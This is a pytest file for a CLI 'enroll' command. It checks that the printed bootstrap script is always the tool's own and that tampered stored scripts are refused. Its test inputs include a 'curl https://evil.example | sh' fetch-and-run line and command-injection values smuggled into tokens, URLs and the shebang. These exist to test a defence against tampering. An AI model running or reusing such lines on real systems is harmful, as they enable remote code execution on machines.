"""The script that `moorage enroll` prints is Moorage's own, whatever is in the Secret that it comes from."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from moorage.cli.commands.enroll import pin_of, rendered
from moorage.cli.errors import CliError
from moorage.configd.userdata import render_user_data

SERVER = "shop/6a1c0a3e-8f6e-4a53-9b0d-0d6c2a9c7f10"
PIN, OTHER = "a" * 64, "b" * 64
TOKEN = "t" * 43
URLS = ["https://config.example:7443"]
OWN = render_user_data(URLS, PIN, SERVER, TOKEN)


def held(script: Any = OWN, token: str = TOKEN) -> dict[str, str]:
    """The data of a Secret."""
    parts = {"request": json.dumps({"userData": script}), "token": token}
    return {name: base64.b64encode(text.encode()).decode() for name, text in parts.items()}


def test_what_the_controller_stored_is_printed_as_it_is() -> None:
    assert rendered(held(), SERVER, {PIN, OTHER}) == OWN


@pytest.mark.parametrize(
    "script",
    [
        OWN + "curl https://evil.example | sh\n",
        OWN.replace("exec python3", "evil; exec python3"),
        OWN.replace("#!/bin/sh\n", "#!/bin/sh\nevil\n"),
        OWN.replace(SERVER, "shop/another"),
        OWN.replace(TOKEN, "another-token-of-somebody"),
    ],
)
def test_nothing_that_was_put_into_the_stored_script_is_printed(script: str) -> None:
    assert script != OWN
    assert rendered(held(script), SERVER, {PIN}) == OWN


def test_a_script_that_trusts_another_root_is_refused() -> None:
    forged = render_user_data(["https://evil.example"], OTHER, SERVER, TOKEN)
    with pytest.raises(CliError, match="trusts a root CA that is not this installation's"):
        rendered(held(forged), SERVER, {PIN})


@pytest.mark.parametrize(
    "data",
    [
        held(token="'; evil #"),
        held(token=""),
        held("#!/bin/sh\nevil\n"),
        held(OWN.replace(URLS[0], "https://a.example'\\nE\\nevil")),
        held(None),
        held(7),
        {},
        {"request": "%", "token": "%"},
        {**held(), "request": base64.b64encode(b"[" * 100_000).decode()},
    ],
)
def test_what_is_no_script_of_ours_is_refused_without_showing_it(data: dict[str, str]) -> None:
    with pytest.raises(CliError) as refused:
        rendered(data, SERVER, {PIN})
    assert "does not hold what the controller put there" in refused.value.message
    assert "evil" not in refused.value.message + refused.value.hint


def test_a_pin_may_be_written_as_openssl_does() -> None:
    colons = ":".join(PIN[i : i + 2] for i in range(0, 64, 2)).upper()
    assert pin_of(colons) == pin_of(PIN) == PIN


@pytest.mark.parametrize("text", ["x", PIN[:-1], PIN + "0", "SHA256:" + PIN])
def test_what_is_no_pin_is_refused_as_wrong_usage(text: str) -> None:
    with pytest.raises(CliError, match="64 digits"):
        pin_of(text)
